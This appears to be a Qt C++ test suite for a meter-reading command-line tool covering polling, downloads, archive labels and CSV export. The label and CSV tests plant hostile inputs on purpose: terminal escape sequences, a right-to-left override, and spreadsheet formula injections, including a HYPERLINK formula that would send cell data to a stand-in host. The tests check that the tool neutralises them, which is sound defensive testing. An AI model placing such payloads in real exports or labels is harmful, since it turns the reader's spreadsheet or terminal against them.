// arrester-cli run as a real program against meter-sim on a pseudo-terminal.
#include <QProcess>
#include <QRegularExpression>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QXmlStreamReader>
#include <QtTest>

#include <cfloat>
#include <csignal>
#include <sys/stat.h>
#include <unistd.h>

#include "archive/archive.h"
#include "protocol/reading_text.h"
#include "support/cli_run.h"
#include "support/event_wait.h"
#include "support/sim_process.h"

using testsupport::CliRun;
using testsupport::FinishCli;
using testsupport::StartCli;

namespace {
constexpr int kCliTimeoutMs = 30000;

// RFC 4180 read strictly: every record ends with CR LF, a quote appears only
// around a whole field or doubled inside one. Nothing when the text breaks a rule.
std::optional<QList<QStringList>> ParseCsv(const QString &text) {
  QList<QStringList> records;
  QStringList record;
  qsizetype i = 0;
  while (i < text.size()) {
    QString field;
    if (text[i] == QLatin1Char('"')) {
      for (++i;; ++i) {
        if (i >= text.size()) return std::nullopt;
        if (text[i] != QLatin1Char('"')) {
          field += text[i];
        } else if (i + 1 < text.size() && text[i + 1] == QLatin1Char('"')) {
          field += text[++i];
        } else {
          ++i;
          break;
        }
      }
    } else {
      for (; i < text.size() && text[i] != QLatin1Char(',') && text[i] != QLatin1Char('\r'); ++i) {
        if (text[i] == QLatin1Char('"') || text[i] == QLatin1Char('\n')) return std::nullopt;
        field += text[i];
      }
    }
    record << field;
    if (text.mid(i, 2) == QLatin1String("\r\n")) {
      records << record;
      record.clear();
      i += 2;
    } else if (i < text.size() && text[i] == QLatin1Char(',')) {
      ++i;
      if (i == text.size()) return std::nullopt;
    } else {
      return std::nullopt;
    }
  }
  if (!record.isEmpty()) return std::nullopt;
  return records;
}

// One cell of a spreadsheet as LibreOffice saved it (flat OpenDocument).
struct SheetCell {
  QString type;     // office:value-type: "string", "float", "date"...
  QString value;    // office:value of a number
  QString formula;  // table:formula, empty when the cell holds none
  QString text;     // what the cell shows
};

QList<QList<SheetCell>> ReadFlatSheet(const QString &path) {
  QFile f(path);
  QList<QList<SheetCell>> rows;
  if (!f.open(QIODevice::ReadOnly)) return rows;
  QXmlStreamReader xml(&f);
  SheetCell cell;
  int repeated = 1;
  bool inCell = false;
  while (!xml.atEnd()) {
    xml.readNext();
    if (xml.isStartElement() && xml.qualifiedName() == QLatin1String("table:table-row"))
      rows.append(QList<SheetCell>());
    if (xml.isStartElement() && xml.qualifiedName() == QLatin1String("table:table-cell")) {
      const QXmlStreamAttributes a = xml.attributes();
      cell = {a.value(QLatin1String("office:value-type")).toString(),
              a.value(QLatin1String("office:value")).toString(),
              a.value(QLatin1String("table:formula")).toString(), QString()};
      repeated = qMax(1, a.value(QLatin1String("table:number-columns-repeated")).toInt());
      inCell = true;
    }
    if (inCell && xml.isCharacters() && !xml.isWhitespace()) cell.text += xml.text();
    if (xml.isEndElement() && xml.qualifiedName() == QLatin1String("table:table-cell")) {
      for (int k = 0; k < qMin(repeated, 64) && !rows.isEmpty(); ++k) rows.last().append(cell);
      inCell = false;
    }
  }
  return rows;
}

constexpr int kCsvLocalTime = 0, kCsvLocalDateTime = 1, kCsvUtcMs = 2, kCsvLabel = 5, kCsvKind = 7,
              kCsvValue = 8, kCsvUnit = 9, kCsvValueMa = 10, kCsvText = 11;
}  // namespace

class TestCli : public QObject {
  Q_OBJECT

 private:
  QTemporaryDir archiveDir_;

  CliRun run(const QStringList &args) {
    return runOn(archiveDir_.filePath(QStringLiteral("archive.sqlite")), args);
  }
  CliRun runOn(const QString &archive, const QStringList &args) {
    QProcess p;
    StartCli(p, args, archive);
    return FinishCli(p, kCliTimeoutMs);
  }

 private slots:
  void initTestCase() {
    QVERIFY(archiveDir_.isValid());
    testsupport::makeTemporaryPortsDir();
  }

  // probe shakes hands, says "ok", and leaves with the closing notice.
  void probeShakesHandsAndSaysGoodbye() {
    testsupport::MeterSim sim;
    QVERIFY(sim.waitReady());
    const CliRun r = run({QStringLiteral("probe"), QStringLiteral("COM1")});
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out, QStringLiteral("ok\n"));
    QVERIFY(sim.waitForReceived(0, 1, 3000));
    QCOMPARE(sim.receivedBytes(), QByteArray("\x05\x00", 2));
  }

  // live --count N polls exactly N times and prints one timed reading per poll.
  void liveCountPrintsTimedReadings() {
    testsupport::MeterSim sim(
        {QStringLiteral("--code"), QStringLiteral("5"), QStringLiteral("--value"), QStringLiteral("1.5")});
    QVERIFY(sim.waitReady());
    const CliRun r =
        run({QStringLiteral("live"), QStringLiteral("COM1"), QStringLiteral("--count"), QStringLiteral("3"),
             QStringLiteral("--interval"), QStringLiteral("0.05"), QStringLiteral("--no-record")});
    QCOMPARE(r.exitCode, 0);
    const QStringList lines = r.outLines();
    QCOMPARE(lines.size(), 3);
    const QRegularExpression line(
        QStringLiteral(R"(^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}(Z|[+-]\d\d:\d\d)  1\.5A$)"));
    for (const QString &l : lines) QVERIFY2(line.match(l).hasMatch(), qPrintable(l));
    QVERIFY(sim.waitForReceived(0, 1, 3000));
    QCOMPARE(sim.countReceived(35), 3);
    QCOMPARE(sim.receivedBytes().back(), '\0');
  }

  // Ctrl+C ends an endless live run cleanly: exit 0 and the closing notice sent.
  void liveInterruptSendsClosingNotice() {
    testsupport::MeterSim sim;
    QVERIFY(sim.waitReady());
    QProcess p;
    StartCli(p,
             {QStringLiteral("live"), QStringLiteral("COM1"), QStringLiteral("--interval"),
              QStringLiteral("0.05"), QStringLiteral("--no-record")},
             archiveDir_.filePath(QStringLiteral("archive.sqlite")));
    QVERIFY(sim.waitForReceived(35, 2, 5000));
    ::kill(pid_t(p.processId()), SIGINT);
    const CliRun r = FinishCli(p, kCliTimeoutMs);
    QCOMPARE(r.exitCode, 0);
    QVERIFY(r.outLines().size() >= 1);
    QVERIFY(sim.waitForReceived(0, 1, 3000));
    QCOMPARE(sim.receivedBytes().back(), '\0');
  }

  // A full store of 255 groups comes through whole and in order, each row
  // worded as the data table words it.
  void downloadReadsFullStore() {
    testsupport::MeterSim sim({QStringLiteral("--groups"), QStringLiteral("255")});
    QVERIFY(sim.waitReady());
    const CliRun r = run({QStringLiteral("download"), QStringLiteral("COM1"), QStringLiteral("--no-record")});
    QCOMPARE(r.exitCode, 0);
    QVERIFY(sim.waitForReceived(0, 1, 3000));
    QCOMPARE(sim.receivedBytes(), QByteArray("\x05\x0f\x19\x00", 4));
    const QByteArray block = sim.sent().last().bytes;
    QCOMPARE(block.size(), 765);
    const QStringList lines = r.outLines();
    QCOMPARE(lines.size(), 255);
    for (int k = 1; k <= 255; ++k)
      QCOMPARE(lines[k - 1], QStringLiteral("%1  %2")
                                 .arg(k, 3, 10, QLatin1Char('0'))
                                 .arg(HistoryReadingText(ReadingGroup::At(block, k - 1))));
    // Fixed anchors: group 1 is code 1 with count 1237, 13 an overload, 14 code 0.
    QCOMPARE(lines[0], QStringLiteral("001  AC 12.37 mA"));
    QCOMPARE(lines[12], QStringLiteral("013  0L"));
    QCOMPARE(lines[13], QStringLiteral("014  ERROR"));
  }

  // A download is recorded by default; list, label and export find it again,
  // and the CSV carries every group with the text the terminal showed.
  void downloadIsRecordedListedLabelledAndExported() {
    testsupport::MeterSim sim({QStringLiteral("--groups"), QStringLiteral("40")});
    QVERIFY(sim.waitReady());
    const CliRun got = run({QStringLiteral("download"), QStringLiteral("COM1")});
    QCOMPARE(got.exitCode, 0);
    const CliRun listed = run({QStringLiteral("list")});
    QCOMPARE(listed.exitCode, 0);
    const QStringList entries = listed.outLines();
    QCOMPARE(entries.size(), 1);
    QVERIFY2(entries[0].contains(QStringLiteral(" download ")), qPrintable(entries[0]));
    const QString id = entries[0].section(QLatin1Char(' '), 0, 0);
    QCOMPARE(run({QStringLiteral("label"), id, QStringLiteral("A 相 3 号")}).exitCode, 0);
    QVERIFY(run({QStringLiteral("list")}).out.contains(QStringLiteral("A 相 3 号")));

    const CliRun csv = run({QStringLiteral("export"), id, QStringLiteral("--csv"), QStringLiteral("-")});
    QCOMPARE(csv.exitCode, 0);
    const QStringList rows = csv.out.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    QCOMPARE(rows.size(), 41);
    const QStringList shown = got.outLines();
    for (int k = 1; k <= 40; ++k) {
      QVERIFY2(
          rows[k].contains(QStringLiteral(",download,")) && rows[k].contains(QStringLiteral(",A 相 3 号,")),
          qPrintable(rows[k]));
      QVERIFY2(rows[k].contains(QLatin1Char(',') + shown[k - 1].mid(5) + QLatin1Char(',')),
               qPrintable(rows[k]));
    }
    QCOMPARE(run({QStringLiteral("export"), QStringLiteral("nosuchid"), QStringLiteral("--csv"),
                  QStringLiteral("-")})
                 .exitCode,
             2);
  }

  // A label is one line of at most 200 characters: a longer one, or one
  // with a control character, is refused with exit 2 and nothing stored.
  // Whatever a file holds (a label from the team server, a hand-made file),
  // list writes no control character to the terminal.
  void labelRulesAndEscapedList() {
    const QString path = archiveDir_.filePath(QStringLiteral("labels.sqlite"));
    QString uuid;
    {
      Archive a;
      QVERIFY(a.open(path));
      RecordingInfo info;
      info.startedMs = 1714566896789;
      info.portName = QStringLiteral("COM1\r\x1b[2K");
      uuid = a.addRecording(info, {{1714566896789, ReadingGroup{12, 34, 1}}});
      QVERIFY(!uuid.isEmpty());
    }
    const QString id = uuid.left(8);
    const QString longest(200, QChar(0x76f8));
    QCOMPARE(runOn(path, {"label", id, longest}).exitCode, 0);
    const struct {
      QString label;
      QString says;
    } refused[] = {
        {QString(201, QLatin1Char('x')), QStringLiteral("201 characters long; at most 200")},
        // Near the most one argument may hold (128 KiB).
        {QString(40000, QChar(0x76f8)), QStringLiteral("40000 characters long")},
        {QStringLiteral("A\tB"), QStringLiteral("U+0009")},
        {QStringLiteral("A\nB"), QStringLiteral("U+000A")},
        {QStringLiteral("A\x1b]0;title\a"), QStringLiteral("U+001B")},
        {QStringLiteral("A\u202eB"), QStringLiteral("U+202E")},
    };
    for (const auto &c : refused) {
      const CliRun r = runOn(path, {"label", id, c.label});
      QCOMPARE(r.exitCode, 2);
      QVERIFY2(r.err.contains(c.says), qPrintable(r.err));
    }
    {
      Archive a;
      QVERIFY(a.open(path));
      QCOMPARE(a.findEntry(uuid)->label, longest);
      QVERIFY(a.setLabel(EntryKind::Recording, uuid, QStringLiteral("=x\x1b]0;pwned\a\r\nfake\u202e")));
    }
    const CliRun r = runOn(path, {"list"});
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out.count(QLatin1Char('\n')), 1);
    for (const QChar c : r.out)
      QVERIFY2(c == QLatin1Char('\n') || (c >= QChar(0x20) && c != QChar(0x7f) && c != QChar(0x202e)),
               qPrintable(QStringLiteral("U+%1 in %2").arg(c.unicode(), 4, 16).arg(r.out)));
    QVERIFY2(r.out.contains(QStringLiteral("COM1\\r\\x1b[2K")), qPrintable(r.out));
    QVERIFY2(r.out.contains(QStringLiteral("=x\\x1b]0;pwned\\x07\\r\\nfake\\u{202e}")), qPrintable(r.out));
  }

  // A hand-made archive cannot break the CSV or turn it against its reader:
  // every field of every row is valid RFC 4180 (huge and infinite values,
  // extreme times, quotes and commas in kind and unit); a text field that a
  // spreadsheet would run as a formula gets an apostrophe, a negative
  // number stays a number, and the local date-time column reads as a date.
  // LibreOffice opens the file to prove it. The same export in GBK.
  void csvFromAHandMadeArchiveIsSafe() {
    const QString path = archiveDir_.filePath(QStringLiteral("hand-made.sqlite"));
    const QString label = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点我\")");
    QString uuid;
    {
      Archive a;
      QVERIFY(a.open(path));
      RecordingInfo info;
      info.startedMs = 1714566896789;
      QList<std::pair<qint64, ReadingGroup>> readings;
      for (int i = 0; i < 6; ++i) readings.append({1714566896789 + 500 * i, ReadingGroup{12, 34, 1}});
      uuid = a.addRecording(info, readings);
      QVERIFY(!uuid.isEmpty());
      QVERIFY(a.setLabel(EntryKind::Recording, uuid, label));
      QSqlQuery q(a.database());
      for (const char *sql : {
               "UPDATE readings SET value = 1e47, value_ma = -1.7976931348623157e308, text = '=1+1'"
               " WHERE number = 1",
               "UPDATE readings SET utc_ms = -9223372036854775808, kind = 'A,\"C', unit = '+mA',"
               " text = '@SUM(1)' WHERE number = 2",
               "UPDATE readings SET utc_ms = 9223372036854775807, value = 9e999 WHERE number = 3",
               "UPDATE readings SET kind = 'DC', value = -360.7, unit = 'A', value_ma = -360700,"
               " text = '-360.7A' WHERE number = 4",
               "UPDATE readings SET text = char(9) || '=1+1' WHERE number = 5",
               "UPDATE readings SET text = char(13) || '=2+2' WHERE number = 6",
           })
        QVERIFY2(q.exec(QString::fromUtf8(sql)), qPrintable(q.lastError().text()));
    }
    QTemporaryDir out;
    const QString csv = out.filePath(QStringLiteral("hand-made.csv"));
    const CliRun r = runOn(path, {"export", uuid.left(8), "--csv", csv});
    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
    QFile file(csv);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    const std::optional<QList<QStringList>> rows = ParseCsv(QString::fromUtf8(bytes.mid(3)));
    QVERIFY2(rows, bytes.constData());
    QCOMPARE(rows->size(), 7);
    for (const QStringList &row : *rows) QVERIFY2(row.size() == 13, qPrintable(row.join(QLatin1Char('|'))));
    const QList<QStringList> &t = *rows;
    QCOMPARE(t[1][kCsvLabel], QLatin1Char('\'') + label);
    QVERIFY(QRegularExpression(QStringLiteral("^\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d$"))
                .match(t[1][kCsvLocalDateTime])
                .hasMatch());
    QCOMPARE(t[1][kCsvValue].size(), 48);  // in fixed notation, no exponent
    QCOMPARE(t[1][kCsvValue].toDouble(), 1e47);
    QCOMPARE(t[1][kCsvValueMa].toDouble(), -DBL_MAX);
    QCOMPARE(t[1][kCsvText], QStringLiteral("'=1+1"));
    QCOMPARE(t[2][kCsvUtcMs], QStringLiteral("-9223372036854775808"));
    QCOMPARE(t[2][kCsvLocalTime] + t[2][kCsvLocalDateTime], QString());
    QCOMPARE(t[2][kCsvKind], QStringLiteral("A,\"C"));
    QCOMPARE(t[2][kCsvUnit], QStringLiteral("'+mA"));
    QCOMPARE(t[2][kCsvText], QStringLiteral("'@SUM(1)"));
    QCOMPARE(t[3][kCsvUtcMs], QStringLiteral("9223372036854775807"));
    QCOMPARE(t[3][kCsvLocalTime] + t[3][kCsvLocalDateTime] + t[3][kCsvValue], QString());
    QCOMPARE(t[4][kCsvValue], QStringLiteral("-360.7"));
    QCOMPARE(t[4][kCsvValueMa], QStringLiteral("-360700"));
    QCOMPARE(t[4][kCsvText], QStringLiteral("'-360.7A"));
    QCOMPARE(t[5][kCsvText], QStringLiteral("'\t=1+1"));
    QCOMPARE(t[6][kCsvText], QStringLiteral("'\r=2+2"));

    // GBK for old spreadsheet programs: no byte-order mark, the label's
    // Chinese in its two-byte codes; an unknown encoding is a usage error.
    const QString gbk = out.filePath(QStringLiteral("gbk.csv"));
    QCOMPARE(runOn(path, {"export", uuid.left(8), "--csv", gbk, "--encoding", "GBK"}).exitCode, 0);
    QFile gbkFile(gbk);
    QVERIFY(gbkFile.open(QIODevice::ReadOnly));
    const QByteArray gbkBytes = gbkFile.readAll();
    QVERIFY(gbkBytes.startsWith("local_time,"));
    QVERIFY(gbkBytes.contains("\"\"\xB5\xE3\xCE\xD2\"\")"));
    // No BOM, and on each of the six rows two characters of three bytes become two.
    QCOMPARE(gbkBytes.size(), bytes.size() - 3 - 6 * 2);
    QCOMPARE(runOn(path, {"export", uuid.left(8), "--csv", gbk, "--encoding", "latin1"}).exitCode, 2);

    const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
    if (soffice.isEmpty())
      QSKIP(
          "soffice is not installed (Debian: libreoffice-calc-nogui, which scripts/deps test installs): "
          "the CSV was checked, not opened in a spreadsheet");
    QProcess lo;
    lo.setProcessChannelMode(QProcess::MergedChannels);
    lo.start(soffice,
             {QStringLiteral("-env:UserInstallation=file://") + out.filePath(QStringLiteral("profile")),
              QStringLiteral("--headless"), QStringLiteral("--infilter=CSV:44,34,76,1"),
              QStringLiteral("--convert-to"), QStringLiteral("fods"), QStringLiteral("--outdir"), out.path(),
              csv});
    QVERIFY(lo.waitForFinished(240000));
    const QList<QList<SheetCell>> sheet = ReadFlatSheet(out.filePath(QStringLiteral("hand-made.fods")));
    QVERIFY2(sheet.size() >= 7, lo.readAll().constData());
    for (const QList<SheetCell> &row : sheet)
      for (const SheetCell &c : row) QVERIFY2(c.formula.isEmpty(), qPrintable(c.formula));
    QCOMPARE(sheet[1][kCsvLabel].text, QLatin1Char('\'') + label);
    QCOMPARE(sheet[1][kCsvText].text, QStringLiteral("'=1+1"));
    QCOMPARE(sheet[1][kCsvLocalDateTime].type, QStringLiteral("date"));
    QCOMPARE(sheet[4][kCsvValueMa].type, QStringLiteral("float"));
    QCOMPARE(sheet[4][kCsvValueMa].value, QStringLiteral("-360700"));
  }

  // A read-only archive (in a folder that can be written) opens and reads
  // well; live and download find out that it cannot take the readings before
  // they send the meter a single byte.
  void readOnlyArchiveIsRefusedBeforeTheMeterIsRead() {
    testsupport::MeterSim sim;
    QVERIFY(sim.waitReady());
    QTemporaryDir dir;
    QVERIFY(::chmod(QFile::encodeName(dir.path()).constData(), 0777) == 0);
    const QString path = dir.filePath(QStringLiteral("archive.sqlite"));
    QVERIFY(run({QStringLiteral("list"), QStringLiteral("--archive"), path}).exitCode == 0);
    QVERIFY(::chmod(QFile::encodeName(path).constData(), 0444) == 0);
    for (const QString &command : {QStringLiteral("live"), QStringLiteral("download")}) {
      QProcess p;
      // As root every file can be written: the tool runs as an ordinary user.
      if (::geteuid() == 0)
        p.setChildProcessModifier([] {
          if (::setgid(65534) != 0 || ::setuid(65534) != 0) ::_exit(99);
        });
      QStringList args{command, QStringLiteral("COM1")};
      if (command == QLatin1String("live")) args << QStringLiteral("--count") << QStringLiteral("2");
      StartCli(p, args, path);
      const CliRun r = FinishCli(p, kCliTimeoutMs);
      QCOMPARE(r.exitCode, 1);
      QVERIFY2(r.err.contains(QStringLiteral("cannot be written")), qPrintable(r.err));
      QVERIFY(r.out.isEmpty());
    }
    QTest::qWait(300);
    QCOMPARE(sim.receivedBytes(), QByteArray());
  }

  void exitCodes_data() {
    QTest::addColumn<QStringList>("simArgs");  // empty: no simulator at all
    QTest::addColumn<QStringList>("cliArgs");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<int>("rows");
    const QStringList probe{QStringLiteral("probe"), QStringLiteral("COM1")};
    const QStringList download{QStringLiteral("download"), QStringLiteral("COM1"),
                               QStringLiteral("--no-record")};
    QTest::newRow("missing port") << QStringList() << probe << 3 << 0;
    QTest::newRow("silent meter") << QStringList{QStringLiteral("--silent")} << probe << 4 << 0;
    QTest::newRow("wrong handshake") << QStringList{QStringLiteral("--bad-handshake")} << probe << 4 << 0;
    QTest::newRow("short history block")
        << QStringList{QStringLiteral("--groups"), QStringLiteral("255"), QStringLiteral("--short-history")}
        << download << 5 << 127;
    QTest::newRow("bad port name") << QStringList()
                                   << QStringList{QStringLiteral("probe"), QStringLiteral("COM17")} << 2 << 0;
    QTest::newRow("count and duration")
        << QStringList()
        << QStringList{QStringLiteral("live"), QStringLiteral("COM1"),       QStringLiteral("--count"),
                       QStringLiteral("1"),    QStringLiteral("--duration"), QStringLiteral("1m")}
        << 2 << 0;
  }

  // Each failure has its own exit code and says what went wrong on stderr.
  void exitCodes() {
    QFETCH(QStringList, simArgs);
    QFETCH(QStringList, cliArgs);
    QFETCH(int, exitCode);
    QFETCH(int, rows);
    std::unique_ptr<testsupport::MeterSim> sim;
    // Without a simulator COM1 is a link to nothing, so no device of this
    // machine (a real /dev/ttyS0, say) can stand in for it.
    const QString link = qEnvironmentVariable("ARRESTER_PORTS_DIR") + QStringLiteral("/COM1");
    if (simArgs.isEmpty()) QVERIFY(QFile::link(QStringLiteral("/nonexistent/meter"), link));
    const auto unlink = qScopeGuard([&] {
      if (simArgs.isEmpty()) QFile::remove(link);
    });
    if (!simArgs.isEmpty()) {
      sim = std::make_unique<testsupport::MeterSim>(simArgs);
      QVERIFY(sim->waitReady());
    }
    const CliRun r = run(cliArgs);
    QCOMPARE(r.exitCode, exitCode);
    QVERIFY(!r.err.isEmpty());
    QCOMPARE(int(r.outLines().size()), rows);
    if (exitCode == 5) QVERIFY2(r.err.contains(QStringLiteral("incomplete")), qPrintable(r.err));
  }
};

QTEST_GUILESS_MAIN(TestCli)
#include "test_cli.moc"
